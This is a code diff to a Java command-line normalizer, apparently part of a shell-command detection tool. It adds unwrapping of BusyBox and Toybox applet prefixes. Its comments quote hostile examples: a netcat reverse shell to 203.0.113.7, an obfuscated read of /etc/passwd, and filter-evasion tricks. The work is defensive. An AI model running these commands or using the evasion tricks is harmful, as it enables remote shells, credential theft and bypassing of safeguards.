@@ -21,6 +21,8 @@ import java.util.List;
  *     write it;</li>
  * <li>POSIX shells: variables set on the line and used later on it ({@code x=/etc/pas;y=swd;cat $x$y})
  *     are expanded, and the expanded line is a second reading ({@link PosixVariableReveal});</li>
+ * <li>POSIX shells: a BusyBox or Toybox binary before its applet ({@code busybox nc ...}) is taken
+ *     out in another reading, which reads as the applet's own program would;</li>
  * <li>POSIX shells: an empty command substitution ({@code cu$()rl}, {@code b``ash}) disappears,
  *     {@code $"..."} reads as {@code "..."}, an escaped {@code t} inside an unquoted word
  *     ({@code sys\temctl}) is a {@code t}, and an
@@ -210,7 +212,29 @@ public final class CommandLineNormalizer {
     private static List<String> posixRead(String s, boolean fold) {
         String out = posix(s, fold);
         String expanded = PosixVariableReveal.expand(s);
-        return expanded == null ? List.of(out) : List.of(out, posix(expanded, fold));
+        String applets = multiCallApplets(out);
+        if (applets == null) {
+            return expanded == null ? List.of(out) : List.of(out, posix(expanded, fold));
+        }
+        return expanded == null ? List.of(out, applets) : List.of(out, posix(expanded, fold), applets);
+    }
+
+    /** {@code busybox} or {@code toybox}, with or without a folder, before the applet it runs. */
+    private static final java.util.regex.Pattern MULTI_CALL = java.util.regex.Pattern.compile(
+            "(?i)(?<![\\w.-])(?:/[\\w./-]*/)?(?:busybox|toybox)\\s+(?=[a-z])");
+
+    /**
+     * The line with each BusyBox or Toybox multi-call binary taken out before its applet
+     * ({@code busybox nc 203.0.113.7 4444 -e sh} reads {@code nc 203.0.113.7 4444 -e sh}): the
+     * binary runs the applet named after it as that program runs, so rules written for the program
+     * read it there too. {@code null} when the line names neither.
+     */
+    private static String multiCallApplets(String line) {
+        if (line.indexOf("box") < 0 && line.indexOf("Box") < 0 && line.indexOf("BOX") < 0) {
+            return null;
+        }
+        java.util.regex.Matcher m = MULTI_CALL.matcher(line);
+        return m.find() ? m.replaceAll("") : null;
     }
 
     private static String posix(String s, boolean fold) {
